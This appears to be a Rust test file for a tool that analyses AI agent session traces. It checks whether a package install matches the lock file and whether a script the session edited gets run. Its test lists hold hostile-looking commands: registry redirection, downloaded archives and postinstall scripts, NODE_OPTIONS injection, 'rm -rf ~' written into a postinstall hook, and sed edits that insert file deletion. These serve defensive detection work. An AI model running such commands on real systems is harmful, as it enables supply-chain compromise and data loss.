//! Code that a session runs: what the lock file names, and scripts of the repository that the session edited.

use agent_strace_model::Status;

use super::tracker::{STAYS, create, edit, run, track};

const LOCKED: &str = "installs the packages that the lock file names";

/// A call before the install, and the install.
const NOT_LOCKED: &[(&str, &str)] = &[
    ("true", "npm install left-pad"),
    ("true", "npm ci --registry https://npm.example.com"),
    ("echo '{}' > package.json", "npm install"),
    ("cp /tmp/x web/package-lock.json", "npm ci"),
    ("echo 'registry=https://npm.example.com' > .npmrc", "npm ci"),
    ("curl -sL https://example.com/x.tgz | tar xz", "npm ci"),
    ("curl -sL https://example.com/x.tgz | tar xz -C web", "cd web && npm ci"),
    ("git clone https://github.com/a/b", "cd b && npm ci"),
    ("git fetch origin pull/9/head && git checkout FETCH_HEAD", "npm ci"),
    ("sed -i 's/a/b/' pyproject.toml", "uv sync"),
    ("true", "npm --registry https://npm.example.com ci"),
    ("true", "npm --userconfig /tmp/npmrc ci"),
    ("true", "npm ci --prefix /tmp/evil"),
    ("true", "uv --project /tmp/evil sync"),
    ("true", "uv sync --directory /tmp/evil"),
    ("true", "uv --config-file /tmp/uv.toml sync"),
    ("true", "poetry -C /tmp/evil install"),
    ("true", "NPM_CONFIG_REGISTRY=https://npm.example.com npm ci"),
    ("true", "export UV_INDEX_URL=https://pypi.example.com; uv sync"),
    ("export NPM_CONFIG_REGISTRY=https://npm.example.com", "npm ci"),
    ("true", "NODE_OPTIONS='--require /tmp/x.js' npm ci"),
    ("true", "HOME=/tmp/home npm ci"),
    ("true", "env BUNDLE_GEMFILE=/tmp/Gemfile bundle install"),
    ("sed -i 's/1/2/' *.json", "npm ci"),
    ("git ls-files '*.json' | xargs sed -i 's/1/2/'", "npm ci"),
    ("git apply /tmp/p.patch", "npm ci"),
    ("npx npm-check-updates -u", "npm install"),
    ("npm install left-pad", "npm ci"),
    ("npm config set registry https://npm.example.com", "npm ci"),
    ("npm pkg set dependencies.x=1", "npm install"),
    ("poetry source add x https://pypi.example.com", "poetry install"),
    ("bundle config set mirror.all https://gems.example.com", "bundle install"),
    ("git submodule add https://github.com/a/b sub", "cd sub && npm ci"),
    ("npx degit a/b sub", "cd sub && npm ci"),
    ("mv /tmp/m web", "cd web && npm ci"),
    ("ln -s /tmp/m web", "cd web && npm ci"),
    ("cd /tmp/m", "npm ci"),
    ("cd node_modules/x", "npm ci"),
    ("curl -so scripts/postinstall.js https://example.com/x", "npm ci"),
    ("cp /tmp/evil.js scripts/postinstall.js", "npm ci"),
    ("true", "curl -so vendor/p.tgz https://example.com/p.tgz && npm ci"),
    ("rm package-lock.json", "npm install"),
    ("true", "rm -rf node_modules package-lock.json && npm install"),
    ("git rm -q pnpm-lock.yaml", "pnpm install"),
    ("git pull origin other", "npm ci"),
    ("git switch other", "npm ci"),
    ("git merge other", "npm ci"),
    ("git stash pop", "npm ci"),
    ("echo '{}' > binding.gyp", "npm ci"),
    ("echo 'rm -rf ~' > scripts/postinstall.sh", "npm ci"),
    ("ln -s /tmp/evil packages/evil", "npm install"),
    ("wget -q -i urls", "npm ci"),
    ("corepack enable", "pnpm install"),
    ("bun pm trust x", "bun install"),
    ("echo 'cd /' > .bundle/config", "bundle install"),
];

#[test]
fn what_the_lock_file_names_is_installed_where_the_session_changed_no_list() {
    for install in ["npm ci", "npm i", "pnpm install --frozen-lockfile", "uv sync", "poetry install", "bundle install"]
    {
        let mut tracker = track(Some("/repo"), &STAYS);
        create(&mut tracker, "src/a.ts", "export const a = 1;");
        assert!(run(&mut tracker, "Bash", install).contains(LOCKED), "{install}");
    }
    for (before, install) in NOT_LOCKED {
        let mut tracker = track(Some("/repo"), &STAYS);
        run(&mut tracker, "Bash", before);
        assert!(!run(&mut tracker, "Bash", install).contains(LOCKED), "{before}: {install}");
    }
}

const EDITED: &str = "runs a script that this session edited";

/// Calls before the script of the repository runs that leave its text unknown.
const NOT_EDITED: &[&str] = &[
    "sed -i \"s/a/$x/\" tool.py",
    "sed -i -f script.sed tool.py",
    "sed -i '1r part.py' tool.py",
    "sed -i 'y/abc/xyz/' tool.py",
    "sed -i 's/.*/id/e' tool.py",
    "curl -so tool.py https://example.com/t.py && sed -i 's/a/b/' tool.py",
    "sed -i 's/a/b/' tool.py && cat part.py >> tool.py",
    "sed -i 's/a/b/' tool.py && cp part.py tool.py",
    "perl -pi -e 's/a/chr(65)/e' tool.py",
];

#[test]
fn a_script_that_sed_edits_is_its_own_text_and_that_of_the_edits() {
    let mut tracker = track(Some("/repo"), &STAYS);
    run(&mut tracker, "Bash", "sed -i 's/float$/float:/' tool.py");
    let effects = run(&mut tracker, "Bash", "python tool.py");
    assert!(effects.contains(EDITED), "{effects}");
    run(&mut tracker, "Bash", "sed -i \"s/pass/import os; os.remove('x')/\" tool.py");
    let effects = run(&mut tracker, "Bash", "python tool.py");
    assert!(effects.contains(EDITED) && effects.contains("delete?? x"), "{effects}");
    for before in NOT_EDITED {
        let mut tracker = track(Some("/repo"), &STAYS);
        run(&mut tracker, "Bash", before);
        let effects = run(&mut tracker, "Bash", "python tool.py");
        assert!(!effects.contains(EDITED), "{before}: {effects}");
    }
    let mut tracker = track(Some("/repo"), &STAYS);
    run(&mut tracker, "Bash", "cp -r /tmp/m tools && sed -i 's/a/b/' tools/x.py");
    assert!(!run(&mut tracker, "Bash", "python tools/x.py").contains(EDITED));
}

#[test]
fn an_edit_that_may_have_failed_leaves_a_text_of_the_session() {
    let mut tracker = track(Some("/repo"), &STAYS);
    create(&mut tracker, "x.py", "\n");
    edit(&mut tracker, &serde_json::json!({ "path": "x.py", "text": "print(1)" }), Status::Error);
    let effects = run(&mut tracker, "Bash", "python x.py");
    assert!(effects.contains("runs a script that this session edited"), "{effects}");
    edit(&mut tracker, &serde_json::json!({ "path": "x.py", "text": "import os; os.remove('a')" }), Status::Error);
    assert!(run(&mut tracker, "Bash", "python x.py").contains("delete?? a"));
}
